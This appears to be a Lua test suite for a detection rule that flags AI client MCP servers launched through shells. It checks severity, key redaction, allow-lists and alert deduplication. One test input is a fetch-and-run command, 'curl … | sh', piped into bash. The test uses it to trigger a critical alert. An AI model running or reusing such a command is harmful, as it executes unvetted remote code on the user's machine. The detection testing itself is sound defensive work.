local function configured(t, command, server, transport)
  t:mcp { user = "ada", mcp = { client = "cursor", server = server or "files", command = command,
    transport = transport or "stdio" } }
end

test("a shell is reported, and more so what it fetches", function(t)
  configured(t, "/bin/sh -c 'node server.js'")
  t:expect("cookbook.mcp_shell", { severity = "high", user = "ada",
    summary = "cursor starts the MCP server files by: /bin/sh -c 'node server.js'" })
  configured(t, "sh -c 'node server.js'", "other")
  t:expect("cookbook.mcp_shell", { severity = "high", summary = like "MCP server other" })
  configured(t, "bash -c 'curl https://example.org/x | sh'", "third")
  t:expect("cookbook.mcp_shell", { severity = "critical", ["details.word"] = "curl " })
end)

test("capitals do not help, and keys are not shown", function(t)
  configured(t, "PowerShell -File x.ps1 --key sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD")
  t:expect("cookbook.mcp_shell", { severity = "high", summary = like "~redacted~" })
end)

test("what the configuration does not name is no reason to be silent", function(t)
  t:mcp { mcp = { command = "cmd.exe /c x", transport = "stdio" } }
  t:expect("cookbook.mcp_shell", {
    summary = "A client starts the MCP server without a name by: cmd.exe /c x" })
end)

test("packages, and words that only look alike, are not", function(t)
  t:params("cookbook.mcp_shell", { fine = set { "corp-tools" } })
  configured(t, "npx -y @modelcontextprotocol/server-filesystem /srv")
  configured(t, "publish -config /etc/mcp.json")
  configured(t, "/opt/bash-completion/server")
  configured(t, "curl-mcp --stdio")
  configured(t, "bash -c x", "remote", "http")
  configured(t, "bash -c x", "corp-tools")
  t:mcp { mcp = { client = "cursor", server = "files", transport = "stdio" } }
  t:forbid "cookbook.mcp_shell"
end)

test("servers that may are a param", function(t)
  t:params("cookbook.mcp_shell", { fine = set { "files" } })
  configured(t, "bash -c x")
  t:forbid "cookbook.mcp_shell"
  configured(t, "bash -c x", "corp-tools")
  t:expect "cookbook.mcp_shell"
end)

test("one server of one user and client is said once a day", function(t)
  local function shell(user, client, server)
    t:mcp { user = user, mcp = { client = client, server = server, command = "cmd.exe /c x",
      transport = "stdio" } }
  end
  shell("ada", "cursor", "files")
  t:wait "20h"
  shell("ada", "cursor", "files")
  t:expect "cookbook.mcp_shell"
  shell("bob", "cursor", "files")
  shell("ada", "claude-desktop", "files")
  shell("ada", "cursor", "mail")
  t:expect("cookbook.mcp_shell"):times(4)
end)
